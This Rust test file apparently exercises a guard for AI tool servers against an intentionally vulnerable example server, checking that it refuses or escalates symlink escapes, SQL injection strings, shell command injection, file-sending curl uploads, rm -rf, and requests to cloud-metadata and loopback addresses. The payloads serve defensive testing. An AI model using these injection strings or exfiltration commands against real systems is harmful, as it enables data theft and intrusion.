//! The vulnerable server as anybody finds it, with nothing that holds its process: what the rules
//! alone stop of what is tried with it, and what of that works where nobody looks.

use std::ffi::OsString;
use std::fs;
use std::os::unix::fs::symlink;
use std::path::{Path, PathBuf};
use std::process::Command;

use serde_json::{Value, json};

use crate::harness::{
    Home, NO_LIMITS, Probe, Script, call, is_refusal, probe, request, text, tool,
};

crate::rows![
    v03_no_link_leads_out_of_the_roots,
    v03_a_disk_that_does_not_answer_holds_up_one_call,
    v05_what_takes_away_for_good_is_asked_about,
    v05_a_value_is_no_statement,
    v05_an_id_is_no_expression,
    v05_much_sql_holds_up_nobody,
    v06_a_program_and_its_arguments_are_one_line,
    v06_a_tool_that_is_a_shell_is_asked_about,
    v07_whom_the_sandbox_lets_a_server_reach_may_be_named,
    v07_a_host_alone_is_read_as_clients_read_it,
];

/// The server's directory, with a file beside it.
fn project(home: &Home) -> PathBuf {
    let project = home.path().join("files/project");
    fs::create_dir_all(project.join("src")).unwrap();
    let project = project.canonicalize().unwrap();
    fs::write(project.join("../outside.txt"), "outside").unwrap();
    fs::write(project.join("inside.txt"), "inside").unwrap();
    project
}

/// A client of the vulnerable server. With `preset = "transparent"`, nobody looks.
fn vulnerable(home: &Home, project: &Path, policy: &str) -> Probe {
    home.policy(&format!("roots = [\"{}\"]\n{policy}\n{NO_LIMITS}{A_SECOND}", project.display()));
    let server: [OsString; 5] = [
        env!("CARGO_BIN_EXE_stockade").into(),
        "example".into(),
        "vulnerable".into(),
        "--root".into(),
        project.into(),
    ];
    let mut probe = Probe::of(&mut probe::command(home, &[], &server)).begin();
    probe.ask(&request("list", "tools/list", json!({})));
    probe
}

/// What a client is told of a question that nobody answers within the second that it has here.
const ASKED: &str = "nobody has answered in time";
const A_SECOND: &str = "approval_timeout_s = 1\n";

const NOBODY_LOOKS: &str = "preset = \"transparent\"";

/// Has each of these be refused by this rule, or pass.
#[track_caller]
fn hold(probe: &mut Probe, cases: &[(&str, Value)], rule: Option<&str>) {
    for (number, (tool, arguments)) in cases.iter().enumerate() {
        let answer = probe.ask(&call(format!("{rule:?}{number}"), tool, arguments.clone()));
        assert_eq!(is_refusal(&answer), rule.is_some(), "{tool} {arguments}: {answer}");
        let says = answer.to_string();
        assert!(rule.is_none_or(|it| says.contains(it)), "{tool} {arguments}: {says}");
    }
}

fn v03_no_link_leads_out_of_the_roots() {
    let home = Home::new();
    let project = project(&home);
    for (to, at) in [
        ("../outside.txt", "linked.txt"),
        ("linked.txt", "chain.txt"),
        ("..", "up"),
        ("../written.txt", "dangling.txt"),
        ("inside.txt", "fine.txt"),
        ("../inside.txt", "src/back.txt"),
    ] {
        symlink(to, project.join(at)).unwrap();
    }
    let whole = |it: &str| json!({ "path": project.join(it) });
    let write = json!({ "path": "dangling.txt", "text": "x" });
    let refused = [
        ("read_file", json!({ "path": "linked.txt" })),
        ("read_file", json!({ "path": "chain.txt" })),
        ("read_file", json!({ "path": "up/outside.txt" })),
        ("read_file", json!({ "path": "src/../linked.txt" })),
        // Mended, it would be another path than the one that was looked at.
        ("read_file", json!({ "path": "link\u{200b}ed.txt" })),
        ("read_file", whole("linked.txt")),
        ("read_project_file", whole("chain.txt")),
        ("list_files", json!({ "path": "up" })),
        ("write_file", write.clone()),
    ];
    let passed = [
        ("read_file", json!({ "path": "fine.txt" })),
        ("read_file", json!({ "path": "src/back.txt" })),
        ("read_file", whole("fine.txt")),
        ("list_files", json!({ "path": "." })),
        ("write_file", json!({ "path": "src/new.txt", "text": "see ../x" })),
    ];
    let mut probe = vulnerable(&home, &project, "");
    hold(&mut probe, &refused, Some("path_outside_roots"));
    hold(&mut probe, &passed, None);
    probe.end();
    assert!(!project.join("../written.txt").exists());
    let said = format!("{:?}", home.records());
    assert!(said.contains("a link leads out of the roots"), "the record has which: {said}");

    let mut probe = vulnerable(&home, &project, NOBODY_LOOKS);
    let answer = probe.ask(&call(1, "read_file", json!({ "path": "chain.txt" })));
    assert_eq!(text(&answer), "outside");
    assert!(!is_refusal(&probe.ask(&call(2, "write_file", write))));
    assert!(project.join("../written.txt").exists(), "written through a link");
}

/// Starts the rest of its arguments where the first is a file system that never answers.
const HUNG: &str = r#"
import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
def done(it):
    if it != 0: raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
CLONE_NEWNS, MS_REC, MS_PRIVATE, MS_NOSUID_NODEV = 0x20000, 0x4000, 0x40000, 6
done(libc.unshare(CLONE_NEWNS))
done(libc.mount(None, b"/", None, MS_REC | MS_PRIVATE, None))
fuse = os.open("/dev/fuse", os.O_RDWR)
os.set_inheritable(fuse, True)
options = f"fd={fuse},rootmode=40000,user_id=0,group_id=0".encode()
done(libc.mount(b"hung", sys.argv[1].encode(), b"fuse", MS_NOSUID_NODEV, options))
os.execvp(sys.argv[2], sys.argv[2:])
"#;

fn v03_a_disk_that_does_not_answer_holds_up_one_call() {
    if !rustix::process::geteuid().is_root() || !Path::new("/dev/fuse").exists() {
        return;
    }
    let home = Home::new();
    let project = project(&home);
    let hung = project.join("hung");
    fs::create_dir(&hung).unwrap();
    home.policy(&format!("roots = [\"{}\"]", project.display()));
    let fake = home.fake(Script::default().with(tool("read_file")));
    let guarded = probe::command(&home, &[], &fake.command());
    let mut command = Command::new("python3");
    command.args(["-c", HUNG]).arg(&hung).arg(guarded.get_program()).args(guarded.get_args());
    for (name, value) in guarded.get_envs() {
        match value {
            Some(it) => command.env(name, it),
            None => command.env_remove(name),
        };
    }
    let mut probe = Probe::of(&mut command).begin();
    let read = |id: i32, path: PathBuf| call(id, "read_file", json!({ "path": path }));
    let answer = probe.ask(&read(1, hung.join("x")));
    assert!(is_refusal(&answer) && text(&answer).contains("path_outside_roots"), "{answer}");
    let said = format!("{:?}", home.records());
    assert!(said.contains("nobody has seen where it leads"), "{said}");
    assert!(!is_refusal(&probe.ask(&read(2, project.join("inside.txt")))));
    // What looks is still there, and the end is not held up by it.
    probe.end();
    assert_eq!(home.records_of("stop").len(), 1);
}

fn v05_what_takes_away_for_good_is_asked_about() {
    let home = Home::new();
    let project = project(&home);
    let sql = |it: &str| ("query", json!({ "sql": it }));
    let refused = [
        sql("DROP TABLE orders"),
        sql("drop table if exists orders"),
        sql("DELETE FROM orders"),
        sql("DELETE FROM orders WHERE 1=1"),
        sql("UPDATE orders SET status = 'x'"),
        sql("UPDATE orders SET status = 'x' WHERE id = id OR 2 > 1"),
        sql("ALTER TABLE orders DROP COLUMN status"),
    ];
    let passed = [
        sql("SELECT id, product FROM orders WHERE customer = 'Ada Lovelace'"),
        sql("UPDATE orders SET status = 'sent' WHERE id = 1"),
        sql("DELETE FROM orders WHERE id = 99"),
        sql("CREATE TABLE notes (id INTEGER, text TEXT)"),
        sql("INSERT INTO notes VALUES (1, 'DROP TABLE notes; DELETE FROM notes')"),
    ];
    let mut probe = vulnerable(&home, &project, "");
    hold(&mut probe, &refused, Some(ASKED));
    hold(&mut probe, &passed, None);
    probe.end();
    let said = home.records_of("decision");
    let said = said.iter().filter(|it| it.to_string().contains("irreversible"));
    assert!(said.count() >= refused.len(), "a person would be asked");

    let mut probe = vulnerable(&home, &project, "[rules]\nirreversible = \"allow\"");
    hold(&mut probe, &[sql("DROP TABLE orders")], None);
    let answer = probe.ask(&call("gone", "query", json!({ "sql": "SELECT * FROM orders" })));
    assert!(is_refusal(&answer), "it is gone: {answer}");

    // A tool that is called so is there for it.
    home.policy("");
    let fake = home.fake(Script::default());
    let mut probe = Probe::run(&home, &fake).begin();
    let drop = json!({ "sql": "DROP TABLE scratch" });
    assert!(!is_refusal(&probe.ask(&call(1, "drop_table", drop))));
}

fn v05_a_value_is_no_statement() {
    let home = Home::new();
    let project = project(&home);
    let of = |it: &str| ("find_orders", json!({ "customer": it }));
    let attack = of("' UNION SELECT id, email, city FROM customers --");
    let refused = [
        attack.clone(),
        of("' OR '1'='1"),
        of("x' or 1=1 --"),
        of("x' or id --"),
        of("x' or 0 isnull is 0 --"),
        of("x' union select id,name,city from customers where 0 isnull is 0 --"),
        of("'/**/UNION/**/SELECT/**/id,email,city/**/FROM/**/customers--"),
        of("'; DROP TABLE orders; --"),
        of("Ada Lovelace'--"),
        of("' || (SELECT email FROM customers LIMIT 1) || '"),
    ];
    let passed = [
        of("Ada Lovelace"),
        ("write_file", json!({ "path": "a.py", "text": "q = \"' OR '1'='1\"" })),
    ];
    let mut probe = vulnerable(&home, &project, "");
    hold(&mut probe, &refused, Some("sql_injection"));
    hold(&mut probe, &passed, None);
    // What people are called passes; that this server fails at it is its own mistake.
    for name in ["O'Brien", "it's -- well, fine", "the 'union' of select workers", "rock 'n' roll"]
    {
        let answer = probe.ask(&call(name, "find_orders", json!({ "customer": name })));
        assert!(!answer.to_string().contains("sql_injection"), "{name}: {answer}");
    }
    probe.end();
    // What is no value that is looked up is noted.
    let fake = home.fake(Script::default());
    let mut probe = Probe::run(&home, &fake).begin();
    let answer = probe.ask(&call(1, "make_label", json!({ "label": "' OR '1'='1" })));
    assert!(!is_refusal(&answer), "{answer}");
    probe.end();
    let noted = format!("{:?}", home.records());
    assert!(noted.contains("between quotes it would be"), "{noted}");

    let mut probe = vulnerable(&home, &project, NOBODY_LOOKS);
    let answer = probe.ask(&call(1, attack.0, attack.1));
    assert!(text(&answer).contains('@'), "the addresses of customers: {answer}");
}

/// A tool as its server lists it, whose parameters are texts.
fn listed(name: &str, about: &str, parameters: &[&str]) -> Value {
    let properties: serde_json::Map<String, Value> = parameters
        .iter()
        .map(|it| ((*it).to_owned(), json!({ "type": ["string", "array"] })))
        .collect();
    let schema = json!({ "type": "object", "properties": properties });
    json!({ "name": name, "description": about, "inputSchema": schema })
}

fn v05_an_id_is_no_expression() {
    let home = Home::new();
    home.policy(NO_LIMITS);
    let fake = home.fake(Script::default().with(listed(
        "get_user",
        "Looks up a user in the database",
        &["user_id"],
    )));
    let mut probe = Probe::run(&home, &fake).begin();
    probe.ask(&request("list", "tools/list", json!({})));
    let of = |it: &str| ("get_user", json!({ "user_id": it }));
    let refused = [
        "null or 1=1",
        "user_id or 1=1",
        "not 1=2",
        "'1' or 1=1",
        "\u{ff11} or 1=1",
        "null union select password from users",
        "exists(select 1 from users)",
        "coalesce((select password from users limit 1),1)",
        "sleep(5)",
        "if(1=1,sleep(5),0)",
        "1;shutdown",
        "1 waitfor delay '0:0:5'",
        "1))) or (((1=1",
        "1/*",
        "1.e0or 1",
        "-1 union select !0",
        "id or 0 isnull is 0",
        "version ()",
    ];
    let passed = [
        "42",
        "usr_123",
        "alice",
        "alice@example.com",
        "550e8400-e29b-41d4-a716-446655440000",
        "ORD-2024-001",
        "O'Brien",
        "Tom or Jerry",
        "dXNlcjoxMjM=",
        "1,2,3",
        "Null",
        "report (final)",
    ];
    hold(&mut probe, &refused.map(of), Some("sql_injection"));
    hold(&mut probe, &passed.map(of), None);
}

fn v05_much_sql_holds_up_nobody() {
    let home = Home::new();
    home.policy(NO_LIMITS);
    let sql = listed("execute_sql", "Runs SQL on PostgreSQL", &["queries"]);
    let ids = listed("get_user", "Looks up a user in the database", &["user_ids"]);
    let fake = home.fake(Script::default().with(sql).with(ids));
    let mut probe = Probe::run(&home, &fake).begin();
    probe.ask(&request("list", "tools/list", json!({})));
    // Comments that were searched for from the beginning, each of them.
    let comments = |query: usize| {
        let comments = (0..7000).map(|it| format!("/*{query}{it}*/"));
        comments.collect::<String>() + "select 1"
    };
    let queries: Vec<String> = (0..4).map(comments).collect();
    hold(&mut probe, &[("execute_sql", json!({ "queries": queries }))], None);
    let statement = |it: usize| format!("select {it}, '{}'", "a".repeat(60_000));
    let queries: Vec<String> = (0..40).map(statement).collect();
    let much = ("execute_sql", json!({ "queries": queries }));
    let ids = vec!["1+".repeat(95) + "1)) or ((1 "; 4500];
    let many = ("get_user", json!({ "user_ids": ids }));
    hold(&mut probe, &[much], Some("sql_statement"));
    hold(&mut probe, &[many], Some("sql_injection"));
    hold(&mut probe, &[("get_user", json!({ "user_ids": ["1"] }))], None);
    probe.end();
    let said = format!("{:?}", home.records());
    assert!(said.contains("more SQL than is looked at"), "{said}");
}

fn v06_a_program_and_its_arguments_are_one_line() {
    let home = Home::new();
    let project = project(&home);
    let canary = project.join("../canary");
    let run = |program: &str, arguments: &[&str]| {
        ("run_command", json!({ "program": program, "arguments": arguments }))
    };
    let attack = run("python3", &["-c", &format!("'open(\"{}\",\"w\")'", canary.display())]);
    let refused = [
        attack.clone(),
        run("python3", &["-c", "import socket; socket.create_connection((\"127.0.0.1\", 1))"]),
        run("/usr/bin/python3.11", &["-Bc", "1"]),
        run("node", &["-e", "1"]),
        run("npx", &["-c", "id"]),
        run("sh", &["-c", "id"]),
        run("perl", &["-e", "1"]),
        run("env", &["sh", "-c", "id"]),
        run("env sh", &["-c", "id"]),
        run("nice", &["bash", "-c", "id"]),
        run("git", &["fetch", "--upload-pack=touch x", "origin"]),
        run("find", &[".", "-exec", "id", "+"]),
        run("ls", &[".", ";", "id"]),
        run("ls", &["$(id)"]),
        run("python3 -c 'import os'", &[]),
        ("unlisted", json!({ "process": { "executable": "python3" }, "args": ["-c", "1"] })),
        ("unlisted", json!({ "command": "python3", "options": { "arguments": ["-c", "1"] } })),
        ("unlisted", json!({ "program": "python3", "arguments": "-c 'import os'" })),
    ];
    let asked = [
        run("rm", &["-rf", "src"]),
        run("curl", &["-d", "@inside.txt", "https://example.com/"]),
        run("curl", &["-T", "inside.txt", "https://example.com/"]),
        run("git", &["push", "--force"]),
        run("dd", &["if=/dev/zero", "of=x"]),
    ];
    fs::write(project.join("hello.sh"), "echo hello").unwrap();
    let passed = [
        run("ls", &["-la", "--color=never"]),
        run("cat", &["inside.txt"]),
        run("grep", &["-n", "inside", "inside.txt"]),
        run("sh", &["hello.sh"]),
        run("python3", &["--version"]),
        run("echo", &["costs", "50%"]),
    ];
    let mut probe = vulnerable(&home, &project, "");
    hold(&mut probe, &refused, Some("command_injection"));
    hold(&mut probe, &asked, Some(ASKED));
    hold(&mut probe, &passed, None);
    probe.end();
    assert!(!canary.exists());

    let mut probe = vulnerable(&home, &project, NOBODY_LOOKS);
    hold(&mut probe, &[attack], None);
    assert!(canary.exists(), "it runs what it is told");
}

fn v06_a_tool_that_is_a_shell_is_asked_about() {
    let home = Home::new();
    home.policy(&format!("{NO_LIMITS}{A_SECOND}"));
    let schema = json!({ "type": "object", "properties": { "command": { "type": "string" } } });
    let shell = |name: &str, about: &str| json!({ "name": name, "description": about, "inputSchema": schema });
    let fake = home.fake(
        Script::default()
            .with(shell("bash", ""))
            .with(shell("execute", "Runs a shell command"))
            .with(shell("run", "Runs a program without a shell")),
    );
    let mut probe = Probe::run(&home, &fake).begin();
    probe.ask(&request("list", "tools/list", json!({})));
    let lines = ["ls | wc -l", "ls *.rs", "echo $HOME", "python3 -c 'print(1)'", "a\nb"];
    for (tool, rule) in [("bash", ASKED), ("execute", ASKED), ("run", "command_injection")] {
        let cases: Vec<_> = lines.iter().map(|it| (tool, json!({ "command": it }))).collect();
        hold(&mut probe, &cases, Some(rule));
        let fine = ["ls -la", "cargo build", "git log --oneline"];
        let cases: Vec<_> = fine.iter().map(|it| (tool, json!({ "command": it }))).collect();
        hold(&mut probe, &cases, None);
    }
    probe.end();
    let decided = home.records_of("decision");
    let asked = decided.iter().filter(|it| it.to_string().contains("shell_line"));
    assert!(asked.count() >= 2 * lines.len());
}

fn v07_whom_the_sandbox_lets_a_server_reach_may_be_named() {
    let home = Home::new();
    let url = |it: &str| ("fetch", json!({ "url": it }));
    let (named, other) = (url("http://db.internal:5432/"), url("http://other.internal/"));
    let credentials = url("http://169.254.169.254/");
    for file in ["", "[sandbox]\nnet = [\"db.internal:5432=10.0.0.5\"]"] {
        home.policy(file);
        let fake = home.fake(Script::default().with(tool("fetch")));
        let mut probe = Probe::run(&home, &fake).begin();
        let refused = [other.clone(), credentials.clone()];
        hold(&mut probe, &refused, Some("url_not_public"));
        let rule = file.is_empty().then_some("url_not_public");
        hold(&mut probe, std::slice::from_ref(&named), rule);
    }
}

fn v07_a_host_alone_is_read_as_clients_read_it() {
    let home = Home::new();
    home.policy(NO_LIMITS);
    let http = listed("http_request", "Sends an HTTP request", &["host", "url"]);
    let fake = home.fake(Script::default().with(http));
    let mut probe = Probe::run(&home, &fake).begin();
    probe.ask(&request("list", "tools/list", json!({})));
    let of = |it: &str| ("http_request", json!({ "host": it }));
    let url = |it: &str| ("http_request", json!({ "url": it }));
    let refused = [
        "localhost.",
        "metadata.google.internal.",
        "::1",
        "0:0:0:0:0:0:0:1",
        "::ffff:169.254.169.254",
        "fe80::1%eth0",
        "fd00:ec2::254",
        "a@127.0.0.1",
        "a:b@169.254.169.254",
        "ip6-loopback",
        "0",
        "//127.0.0.1",
        "127.0.0.1\\x",
        "http:127.0.0.1",
        "<127.0.0.1>",
        "127.0.0.1%00",
        "127.0.0.1,example.com",
    ];
    let passed = [
        "example.com",
        "example.com.",
        "api.example.com:443",
        "9.9.9.9",
        "2620:fe::fe",
        "my server",
    ];
    hold(&mut probe, &refused.map(of), Some("url_not_public"));
    hold(&mut probe, &passed.map(of), None);
    let urls = ["localhost./x", "metadata.google.internal./x"];
    hold(&mut probe, &urls.map(url), Some("url_not_public"));
    hold(&mut probe, &["example.com./x"].map(url), None);
}
